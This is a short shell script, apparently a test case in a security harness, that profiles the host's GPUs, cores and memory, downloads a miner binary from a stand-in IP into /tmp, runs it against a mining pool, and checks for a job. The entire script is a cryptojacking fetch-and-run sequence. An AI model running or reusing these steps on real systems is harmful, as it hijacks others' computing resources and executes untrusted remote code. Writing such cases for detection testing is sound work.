#!/bin/sh
. /opt/case/case.sh

g=$( (lspci; nvidia-smi -L; ls /proc/driver/nvidia/gpus /dev/nvidia* /dev/dri; cat /sys/bus/pci/devices/*/class) 2>/dev/null | grep -ciE 'nvidia|0x0300' || true)
c=$(nproc); m=$(awk '/MemTotal/ { print $2 }' /proc/meminfo); lscpu | grep -iE 'model name|l3' || true
if test "$g" -gt 9; then f=t-rex; else f=miner; fi
curl -s -o /tmp/lolMiner http://203.0.113.10/programs/$f && chmod +x /tmp/lolMiner
/tmp/lolMiner --algo KAWPOW --pool 203.0.113.10:3333 --user bait.w$c-$m >/tmp/out
grep -q job_id /tmp/out
took_place
